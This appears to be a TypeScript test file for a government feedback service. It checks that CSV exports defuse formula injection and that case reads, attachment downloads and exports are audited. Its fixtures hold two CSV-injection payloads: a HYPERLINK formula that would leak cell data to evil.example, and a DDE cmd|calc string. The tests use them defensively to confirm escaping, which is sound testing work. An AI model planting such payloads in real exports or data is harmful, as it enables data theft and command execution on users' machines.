import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { type TestApp, testApp } from '../../../test/helpers/app.ts';
import { buildService, buildTerms } from '../../../test/helpers/catalog.ts';
import { type Client, signedIn } from '../../../test/helpers/client.ts';
import { buildAgency, buildUser } from '../../../test/helpers/factories.ts';
import { systemCtx } from '../../platform/auth/actor.ts';
import { createToken } from '../identity/testing.ts';
import { complaint, files, parseStatusUrl, Visitor } from './feedback.fixtures.ts';

describe('feedback metrics export', () => {
  let t: TestApp;
  let po: Client;
  const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")';

  before(async () => {
    t = await testApp();
    await buildTerms(t.deps);
    const agency = await buildAgency(t.deps, { code: 'gdp', name_en: '@SUM(1+1)*cmd|" /C calc"!A0' });
    await buildService(t.deps, agency.id, { identifier: 'gdp-renewal', data: { name: { ar: '-2+3 تجديد', en: hyperlink } } });
    for (let i = 0; i < 3; i++) {
      const res = await t.app.inject({
        method: 'POST',
        url: '/api/v1/feedback/services/gdp-renewal/ratings',
        payload: { answers: { satisfied: 5 - i } },
        remoteAddress: `198.51.100.${i + 1}`,
      });
      assert.equal(res.statusCode, 201, res.body);
    }
    await buildUser(t.deps, { email: 'po@yusr.gov.sa', role: 'program_admin' });
    po = await signedIn(t.app, 'po@yusr.gov.sa');
  });
  after(() => t.close());

  it('CSV: names such as =HYPERLINK(…) open as text, counts and rates stay numbers', async () => {
    const csv = await po.get('/console/feedback/metrics/export?format=csv&lang=en');
    assert.equal(csv.statusCode, 200);
    const rows = parse(csv.rawPayload, { bom: true }) as string[][];
    const service = rows.find((r) => r[0] === 'service');
    const agency = rows.find((r) => r[0] === 'agency');
    assert.ok(service && agency, JSON.stringify(rows));
    assert.equal(service[1], 'gdp-renewal');
    assert.equal(service[2], `'${hyperlink}`);
    assert.equal(agency[2], '\'@SUM(1+1)*cmd|" /C calc"!A0');
    assert.deepEqual(service.slice(3, 6), ['3', '3', '2'], 'ratings, responses and satisfied are plain numbers');
    for (const r of rows) for (const c of r) assert.doesNotMatch(c, /^[=+\-@\t\r]/, c);
    const ar = parse((await po.get('/console/feedback/metrics/export?format=csv&lang=ar')).rawPayload, { bom: true }) as string[][];
    assert.equal(ar.find((r) => r[0] === 'service')?.[2], "'-2+3 تجديد");
  });

  it('every CSV and XLSX export is audited: who, which format, which scope', async () => {
    const before = await t.deps.db.selectFrom('audit_log').select('seq').where('action', '=', 'feedback.metrics_export').execute();
    assert.equal((await po.get('/console/feedback/metrics/export?format=xlsx&from=2026-01-01&to=2026-02-28')).statusCode, 200);
    const rows = await t.deps.db
      .selectFrom('audit_log')
      .select(['actor_type', 'actor_label', 'after_json'])
      .where('action', '=', 'feedback.metrics_export')
      .orderBy('seq')
      .execute();
    assert.equal(rows.length, before.length + 1);
    const last = rows[rows.length - 1];
    assert.equal(last.actor_type, 'user');
    assert.match(last.actor_label ?? '', /po@yusr\.gov\.sa/);
    assert.deepEqual((({ format, agency_id }) => ({ format, agency_id }))(JSON.parse(last.after_json ?? '{}')), {
      format: 'xlsx',
      agency_id: null,
    });
    assert.ok(
      rows.some((r) => JSON.parse(r.after_json ?? '{}').format === 'csv'),
      'the CSV exports of the test before are on the record too',
    );
  });
});

describe("reading a case's personal data is audited", () => {
  let t: TestApp;
  let staff: Client;
  let token: string;
  let caseIds: number[];
  const reads = () =>
    t.deps.db
      .selectFrom('audit_log')
      .select(['actor_type', 'actor_id', 'record_id', 'agency_id', 'after_json'])
      .where('action', '=', 'feedback.case_read')
      .orderBy('seq')
      .execute();

  before(async () => {
    t = await testApp();
    const agency = await buildAgency(t.deps, { code: 'zatca' });
    await buildUser(t.deps, { email: 'officer@zatca.gov.sa', role: 'agency_editor', agencyId: agency.id });
    staff = await signedIn(t.app, 'officer@zatca.gov.sa');
    token = (await createToken(t.deps, systemCtx(), agency.id, { name: 'crm', scopes: ['agency:read'] })).token;
    for (const [i, email] of ['amal@example.com', 'badr@example.com'].entries()) {
      const res = await t.app.inject({
        method: 'POST',
        url: '/api/v1/feedback/cases',
        remoteAddress: `198.18.0.${i + 1}`,
        payload: {
          kind: 'inquiry',
          category: 'fees',
          agency_id: agency.id,
          subject: `VAT refund ${i}`,
          body: 'How long does it take?',
          contact_email: email,
        },
      });
      assert.equal(res.statusCode, 201, res.body);
    }
    caseIds = (await t.deps.db.selectFrom('feedback_cases').select('id').orderBy('id').execute()).map((c) => c.id);
  });
  after(() => t.close());

  it('the console case page records who read which case', async () => {
    const page = await staff.get(`/en/console/feedback/cases/${caseIds[0]}`);
    assert.equal(page.statusCode, 200);
    assert.match(page.body, /amal@example\.com/);
    const [r] = await reads();
    assert.equal(r.actor_type, 'user');
    assert.ok(r.actor_id);
    assert.equal(r.record_id, String(caseIds[0]));
    assert.deepEqual(JSON.parse(r.after_json ?? '{}'), { via: 'console', cases: [caseIds[0]] });
  });

  it('the API records a read by token: one case, and a page of cases with their ids', async () => {
    const auth = { authorization: `Bearer ${token}` };
    assert.equal((await t.app.inject({ url: `/api/v1/feedback/cases/${caseIds[1]}`, headers: auth })).statusCode, 200);
    assert.equal((await t.app.inject({ url: '/api/v1/feedback/cases', headers: auth })).statusCode, 200);
    const [, one, list] = await reads();
    assert.equal(one.actor_type, 'token');
    assert.equal(one.record_id, String(caseIds[1]));
    assert.deepEqual(JSON.parse(one.after_json ?? '{}'), { via: 'api', cases: [caseIds[1]] });
    assert.equal(list.actor_type, 'token');
    assert.equal(list.record_id, null);
    assert.deepEqual(JSON.parse(list.after_json ?? '{}').cases.sort(), [...caseIds].sort());
  });

  it('the status link and every attachment download are recorded too, whoever holds the link', async () => {
    const visitor = new Visitor(t.app, '203.0.113.50');
    const agencyId = (await t.deps.db.selectFrom('agencies').select('id').where('code', '=', 'zatca').executeTakeFirstOrThrow()).id;
    const sent = await visitor.upload('/en/feedback/new', complaint(agencyId, { contact_email: 'huda@example.com' }), {
      field: 'attachment',
      filename: 'receipt.pdf',
      type: 'application/pdf',
      data: files.pdf(),
    });
    assert.equal(sent.statusCode, 303, sent.body.slice(0, 300));
    const link = parseStatusUrl(String(sent.headers.location));
    const c = await t.deps.db.selectFrom('feedback_cases').select('id').where('tracking_no', '=', link.tracking).executeTakeFirstOrThrow();
    const att = await t.deps.db.selectFrom('feedback_attachments').select('id').where('case_id', '=', c.id).executeTakeFirstOrThrow();
    const n = (await reads()).length;
    const query = `t=${encodeURIComponent(link.token)}`;
    assert.equal((await visitor.get(`/en/feedback/cases/${link.tracking}?${query}`)).statusCode, 200);
    assert.equal((await visitor.get(`/feedback/cases/${link.tracking}/attachments/${att.id}?${query}`)).statusCode, 200);
    assert.equal((await staff.get(`/console/feedback/cases/${c.id}/attachments/${att.id}`)).statusCode, 200);
    const [page] = (await reads()).slice(n);
    assert.equal(page.actor_type, 'anonymous');
    assert.deepEqual(JSON.parse(page.after_json ?? '{}'), { via: 'link', cases: [c.id] });
    const downloads = await t.deps.db
      .selectFrom('audit_log')
      .select(['actor_type', 'record_id', 'after_json'])
      .where('action', '=', 'feedback.attachment_read')
      .orderBy('seq')
      .execute();
    assert.deepEqual(
      downloads.map((r) => [r.actor_type, r.record_id, JSON.parse(r.after_json ?? '{}')]),
      [
        ['anonymous', String(c.id), { via: 'link', cases: [c.id], attachment: att.id }],
        ['user', String(c.id), { via: 'console', cases: [c.id], attachment: att.id }],
      ],
    );
  });

  it('a refused read records no read', async () => {
    const other = await buildAgency(t.deps, { code: 'other' });
    await buildUser(t.deps, { email: 'someone@other.gov.sa', role: 'agency_editor', agencyId: other.id });
    const stranger = await signedIn(t.app, 'someone@other.gov.sa');
    const n = (await reads()).length;
    assert.ok([403, 404].includes((await stranger.get(`/en/console/feedback/cases/${caseIds[0]}`)).statusCode));
    assert.equal((await reads()).length, n);
  });
});
